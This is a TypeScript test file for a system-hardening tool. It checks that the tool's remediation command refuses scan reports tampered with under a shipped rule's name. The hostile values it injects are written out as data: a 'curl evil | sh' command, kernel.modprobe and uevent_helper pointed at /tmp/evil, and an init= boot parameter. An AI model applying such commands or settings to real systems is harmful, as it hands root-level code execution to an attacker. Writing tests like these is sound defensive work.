import assert from 'node:assert/strict';
import { copyFileSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { REMEDIATION_FORMATS } from '../../src/remediation/index.js';
import { kernwardWarm } from '../support/warm/commands.js';
import { scratch } from '../support/scratch.js';

/** A report that somebody changed under the name of a shipped rule writes nothing of its own into a file that root applies. */

const folder = scratch();
after(() => rmSync(folder, { recursive: true, force: true }));

before(async () => {
  copyFileSync(join(process.cwd(), 'policies', 'hosts', 'debian-12.probe'), join(folder, 'a.probe'));
  writeFileSync(join(folder, 'inventory.yaml'), 'hosts: [{ name: a, transport: recorded, recording: a.probe }]\n');
  await kernwardWarm(
    folder,
    'scan',
    '-i',
    'inventory.yaml',
    '-q',
    '-o',
    'json:report.json',
    '-o',
    'jsonl:report.jsonl',
  );
});

interface Report {
  readonly header: {
    readonly rules: readonly { readonly id: string; readonly remediationSettings?: Record<string, unknown[]> }[];
  };
  readonly hosts: readonly { readonly verdicts: readonly { readonly rule: string; readonly result: string }[] }[];
}

function failing(report: Report): string {
  const fails = report.hosts[0]?.verdicts.filter(({ result }) => result === 'fail').map(({ rule }) => rule) ?? [];
  const rule = report.header.rules.find(
    ({ id, remediationSettings: { sysctl = [], sysfs = [] } = {} }) =>
      fails.includes(id) && sysctl.length + sysfs.length > 0,
  );
  assert.ok(rule);
  return rule.id;
}

const STRANGE: Readonly<Record<string, (settings: Record<string, unknown[]>) => void>> = {
  'another key': (settings) => settings['sysctl']?.push({ name: 'kernel.modprobe', value: '/tmp/evil', accepts: [] }),
  'another file under /sys': (settings) =>
    settings['sysfs']?.push({ name: '/sys/kernel/uevent_helper', value: '/tmp/evil', accepts: [] }),
  'another value': (settings) => {
    for (const each of [...(settings['sysctl'] ?? []), ...(settings['sysfs'] ?? [])])
      Object.assign(Object(each), { value: '7' });
  },
  'another command': (settings) => settings['commands']?.push('curl evil | sh'),
  'another boot parameter': (settings) => settings['bootParameters']?.push('init=/tmp/evil'),
  'another package': (settings) => settings['packages']?.push('evil'),
};

for (const [what, change] of Object.entries(STRANGE))
  test(`${what} is refused with its place, by every way`, async () => {
    const report: Report = JSON.parse(readFileSync(join(folder, 'report.json'), 'utf8'));
    const id = failing(report);
    const index = report.header.rules.findIndex((rule) => rule.id === id);
    change(report.header.rules[index]?.remediationSettings ?? {});
    writeFileSync(join(folder, 'changed.json'), JSON.stringify(report));
    for (const way of REMEDIATION_FORMATS.keys()) {
      const { status, stdout, stderr } = await kernwardWarm(
        folder,
        'remediate',
        'changed.json',
        '--as',
        way,
        '-o',
        'out',
      );
      assert.equal(status, 2, stdout + stderr);
      assert.match(
        stderr,
        new RegExp(
          `changed.json:1:1: error: header.rules\\[${index}\\].remediationSettings.*\\[remediation/other-settings\\]`,
          'u',
        ),
      );
      assert.equal(stdout, '');
      assert.equal(existsSync(join(folder, 'out')), false);
    }
  });

test('a rule of no policy that was given is refused', async () => {
  const text = readFileSync(join(folder, 'report.json'), 'utf8');
  const id = failing(JSON.parse(text));
  writeFileSync(join(folder, 'renamed.json'), text.replaceAll(`"${id}"`, '"mine"'));
  const { status, stderr } = await kernwardWarm(
    folder,
    'remediate',
    'renamed.json',
    '--as',
    'sysctl.d',
    '--rule',
    'mine',
  );
  assert.equal(status, 2);
  assert.match(stderr, /the rule mine is of no policy that was given.*\[remediation\/no-policy\]/u);
});

test('an honest report is served as ever, from a line or the whole', async () => {
  for (const file of ['report.json', 'report.jsonl']) {
    const { status, stderr, stdout } = await kernwardWarm(folder, 'remediate', file, '--as', 'sysctl.d');
    assert.notEqual(status, 2, stderr);
    assert.match(stdout, /^w \/sys\/kernel\/mm\/transparent_hugepage\//mu);
  }
});
